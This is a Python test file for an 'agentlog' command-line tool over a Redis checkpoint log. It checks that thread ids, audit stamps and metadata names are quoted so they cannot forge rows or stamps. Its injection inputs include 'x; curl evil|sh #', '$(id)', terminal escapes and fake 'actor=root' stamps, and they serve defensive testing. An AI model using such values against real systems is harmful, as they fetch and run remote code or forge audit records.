"""Ids, stamps and names that were chosen to look like rows, fields or commands of `agentlog`."""

from __future__ import annotations

import subprocess
from typing import Any

import pytest

from eventlog import audit
from saver import RedisStreamSaver
from tests.saver.cli.commands import Agentlog, park, put
from tests.saver.threads import config, following, step

ROW = "x unchanged 9 0 9 9 0000000000000000000000000000000000000000"
HOSTILE = [
    ROW,
    "a\nroot unchanged",
    "a\tb",
    "a\r\x1b[2Kb",
    "-",
    "'42'",
    " ",
    "\u00a0x",
    "\u202eabc",
    "x; curl evil|sh #",
]


@pytest.mark.parametrize("thread", HOSTILE)
def test_an_id_is_one_word_of_a_row(agentlog: Agentlog, thread: str) -> None:
    """A row has as many words as that of a plain id, and the id's is its `repr`; a row is one line."""
    put(agentlog.url, agentlog.prefix, thread)
    for command, words in ((["verify", "--all"], 7), (["threads"], 8), (["tail"], 7)):
        lines = agentlog(*command).lines
        assert len(lines) == 2
        row = lines[-1]
        assert repr(thread) in row
        assert len(row.replace(repr(thread), "id").split()) == words
        assert row.isprintable()


def test_names_in_a_log_are_words(agentlog: Agentlog) -> None:
    """Channels, namespaces, ids, sources and steps of a checkpoint: none looks like another column."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver:
        where = config("42", "sub graph")
        checkpoint, metadata, versions = follow({"a, b": 1, "c d": 2})
        saver.put(where, checkpoint, {**metadata, "source": "loop 9", "step": "8 loop"}, versions)  # type: ignore[typeddict-item]
    (line,) = agentlog("log", "42").lines
    for quoted in ("'a, b', 'c d'", "'sub graph'", "'loop 9'", "'8 loop'", repr("id x")):
        assert quoted in line
    shown = agentlog("show", "42", "--namespace", "sub graph").lines
    assert shown[0] == f"checkpoint  {'id x'!r}"
    assert "namespace   'sub graph'" in shown
    assert "'c d': 2" in shown


def follow(values: dict[str, Any]) -> tuple[Any, Any, Any]:
    """A checkpoint with an id of two words."""
    checkpoint, metadata, versions = step(values)
    return {**checkpoint, "id": "id x"}, metadata, versions


@pytest.mark.parametrize(
    ("stamps", "shown"),
    [
        ({"actor": "ann", "reason": "x; actor=root"}, 'actor=ann; reason="x; actor=root"'),
        ({"actor": 'ann"; reason="fine'}, 'actor="ann\\"; reason=\\"fine"'),
        ({"actor": "ann", "reason": "a b"}, "actor=ann; reason=a b"),
        ({"actor": "ann", "x; actor": "root"}, "actor=ann; 'x; actor'=root"),
        ({"reason": "two\nlines"}, r"reason=two\nlines"),
        ({"reason": {"a": "; actor=root"}}, 'reason={"a": "; actor=root"}'),
    ],
)
def test_a_stamp_forges_no_other(agentlog: Agentlog, stamps: dict[str, Any], shown: str) -> None:
    """Values and names that have separators are quoted."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver, audit(**stamps):
        saver.put(config("42"), *step({"n": 1}))
    (line,) = agentlog("log", "42").lines
    assert line.endswith(f" {shown}")


def test_interrupts_and_errors_forge_no_stamps(agentlog: Agentlog) -> None:
    """They are quoted in the same way, and so are runs of a removal."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver:
        saved = saver.put(config("42"), *step({"n": 1}))
        saver.put_writes(saved, [("__error__", "boom; actor=root")], "t1")
        saver.put_writes(saved, [("__interrupt__", "ok?; actor=root")], "t2")
    _, error, interrupt = agentlog("log", "42").lines
    assert error.endswith('error: "boom; actor=root"')
    assert interrupt.endswith('interrupt: "ok?; actor=root"')


def named(thread: str, **metadata: str) -> Any:
    """A config with metadata."""
    return {**config(thread), "metadata": metadata}


def test_the_source_of_an_actor_is_shown(agentlog: Agentlog) -> None:
    """An actor of the config's metadata is marked in log and show, and JSON has the source of each."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver:
        first = step({"n": 1})
        saver.put(named("42", actor="root", reason="mine"), *first)
        with audit(actor="ann"):
            saver.put(named("43", actor="root"), *first)
    (line,) = agentlog("log", "42").lines
    assert line.endswith("actor=root; actor_source=metadata; reason=mine; reason_source=metadata")
    assert agentlog("log", "42", "--json").objects[0]["audit"] == {
        "actor": "root",
        "actor_source": "metadata",
        "reason": "mine",
        "reason_source": "metadata",
    }
    shown = agentlog("show", "42").lines
    at = shown.index("stamps")
    assert [one.split() for one in shown[at + 1 : at + 3]] == [["actor", "root"], ["reason", "mine"]]
    assert "  actor_source metadata" in shown
    for command in ("log", "show"):
        (reported,) = agentlog(command, "43", "--json").objects
        assert reported["audit"] == {"actor": "ann", "actor_source": "audit"}


def test_metadata_forges_no_lines_of_show(agentlog: Agentlog) -> None:
    """Metadata may have any names, also those of stamps and of show's own lines."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver:
        checkpoint, metadata, versions = step({"n": 1})
        forged = {"actor": "root", "  actor": "root", "checkpoint": "other", "saved": "never", "stamps": "x", "a\nb": 1}
        saver.put(config("42"), checkpoint, {**metadata, **forged}, versions)  # type: ignore[typeddict-item]
    shown = agentlog("show", "42").lines
    assert sum(one.startswith("checkpoint ") for one in shown) == 1
    assert sum(one.startswith("saved ") for one in shown) == 1
    assert "metadata.checkpoint other" in shown
    assert "stamps" not in shown
    assert not any(one.startswith("  actor") for one in shown)


@pytest.mark.parametrize("thread", ["x; curl evil|sh #", "-x", "$(id)", "a'b", "two\nlines"])
def test_a_remedy_can_be_pasted(agentlog: Agentlog, thread: str, tmp_path: Any) -> None:
    """The command that verify names has the id as a shell takes it, and exports that thread."""
    put(agentlog.url, agentlog.prefix, thread)
    damage(agentlog, thread)
    _, _, remedy = agentlog("verify", "--all").err.rpartition("Keep the evidence before anything else: agentlog ")
    words = remedy.strip().replace("FILE", str(tmp_path / "file"))
    split = subprocess.run(["bash", "-c", f"printf '%s\\0' {words}"], check=True, capture_output=True)
    arguments = split.stdout.decode().split("\0")[:-1]
    assert thread in arguments
    at = arguments.index("--") if "--" in arguments else len(arguments)
    target = ["--url", agentlog.url, "--prefix", agentlog.prefix]
    from saver.cli import main

    assert main([*arguments[:at], *target, *arguments[at:]]) == 0
    assert (tmp_path / "file").exists()


def damage(agentlog: Agentlog, thread: str) -> None:
    """Adds an entry to a log that no writer signed for."""
    from eventlog.keys import Keyspace
    from tests.servers import connect

    with connect(agentlog.url) as client:
        log = Keyspace(agentlog.prefix, 16).thread(thread.encode()).log
        client.xadd(log, {"n": 9, "d": "x"}, id=following(client.xrevrange(log, count=1)[0][0]))


def test_tables_of_groups_have_words(agentlog: Agentlog) -> None:
    """Names of groups and members, filters and parked threads."""
    put(agentlog.url, agentlog.prefix, "t, u; kinds: x", "a b")
    with agentlog.feed() as feed:
        park(feed, "g  2026", "a b", told="boom")
        feed.group("f", thread="t, u; kinds: x").register()
    lines = agentlog("groups").lines
    assert any("'g  2026'" in line for line in lines)
    assert any("threads: 't, u; kinds: x'" in line for line in lines)
    row = agentlog("parked", "g  2026").lines[1]
    assert "'a b'" in row


def test_differences_of_a_forged_id_are_one_line(agentlog: Agentlog) -> None:
    """Check names the thread as a word."""
    put(agentlog.url, agentlog.prefix, "a: index: fine\nthread b")
    from eventlog.keys import Keyspace
    from tests.servers import connect

    keys = Keyspace(agentlog.prefix, 16).thread(b"a: index: fine\nthread b")
    with connect(agentlog.url) as client:
        client.hset(keys.index, "n", "77")
    lines = agentlog("check", "--all").lines
    assert all(line.startswith(("thread 'a: index: fine\\nthread b': ", "1 thread checked")) for line in lines)
    assert len(lines) > 1


def test_paths_of_changes_are_words(agentlog: Agentlog) -> None:
    """Keys of a state that look like values or nested keys are quoted."""
    with RedisStreamSaver.from_conn_string(agentlog.url, prefix=agentlog.prefix) as saver:
        first = step({"s": {"a": 1}})
        saved = saver.put(config("42"), *first)
        saver.put(saved, *step({"s": {"a": 1, "b.c": 2, "d: 1 -> 2": 3}, "n: 1": 4}, step=1))
    changes = [line.strip() for line in agentlog("log", "42", "--patch").lines]
    assert "+ s.'b.c': 2" in changes
    assert "+ s.'d: 1 -> 2': 3" in changes
    assert "+ 'n: 1': 4" in changes
